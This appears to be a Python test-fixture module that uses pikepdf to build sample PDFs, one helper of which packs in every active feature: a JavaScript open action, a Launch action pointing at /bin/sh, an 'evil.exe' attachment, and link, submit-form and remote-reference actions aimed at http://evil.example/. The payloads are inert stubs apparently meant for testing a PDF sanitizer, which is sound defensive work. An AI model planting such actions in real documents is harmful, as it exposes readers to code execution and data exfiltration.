"""PDFs as others make them, good and evil, built here byte by byte."""

import io
from collections.abc import Callable, Sequence
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, OutlineItem, Pdf, String


def a_letter(
    pages: Sequence[str] = ("Κείμενο",),
    *,
    bookmarks: Sequence[str] = (),
    is_archival: bool = False,
    change: Callable[[Pdf], None] = lambda pdf: None,
) -> bytes:
    """A PDF whose pages write a few words; `change` does to it what a test is about."""
    out = io.BytesIO()
    with pikepdf.new() as pdf:
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        for words in pages:
            pdf.add_blank_page(page_size=(595, 842))
            pdf.pages[-1].obj.Resources = Dictionary(Font=Dictionary(F1=font))
            said = words.encode("ascii", "replace")
            pdf.pages[-1].obj.Contents = pdf.make_stream(b"/P <</MCID 0>> BDC BT /F1 12 Tf 72 720 Td (%s) Tj ET EMC" % said)
        if bookmarks:
            with pdf.open_outline() as outline:
                outline.root.extend(OutlineItem(title, number) for number, title in enumerate(bookmarks))
        if is_archival:
            with pdf.open_metadata() as metadata:
                metadata["pdfaid:part"] = "2"
                metadata["pdfaid:conformance"] = "B"
        change(pdf)
        pdf.save(out, static_id=True)
    return out.getvalue()


def action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name(f"/{kind}"), **more)


def with_every_action(pdf: Pdf) -> None:
    """Everything in a PDF that acts, opens, sends or hides something."""
    script = action("JavaScript", JS=String("app.alert('x')"))
    launch = action("Launch", F=String("/bin/sh"))
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=script, DP=launch)
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    pdf.attachments["evil.exe"] = b"MZ"
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script)
    links = [action("URI", URI=String("http://evil.example/")), launch, action("GoToR", F=String("other.pdf"), D=Array([0, Name.Fit]))]
    links += [action("SubmitForm", F=String("http://evil.example/")), action("ImportData", F=String("x.fdf")), script]
    page.Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=each)) for each in links])
    page.PieceInfo = Dictionary(Evil=Dictionary(Private=script))
    page.Resources.Evil = Dictionary(Hidden=script)
    page.Resources.Properties = Dictionary(MC0=Dictionary(Hidden=launch))
    form = pdf.make_stream(b"/Hidden BMC BT /F1 9 Tf (inner) Tj ET EMC", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=String("http://evil.example/ref.pdf"), Page=0)
    form.OPI = Dictionary(Hidden=script)
    form.Resources = Dictionary(Font=page.Resources.Font)
    page.Resources.XObject = Dictionary(Evil=form)
    page.Contents = pdf.make_stream(page.Contents.read_bytes() + b" /Evil Do")
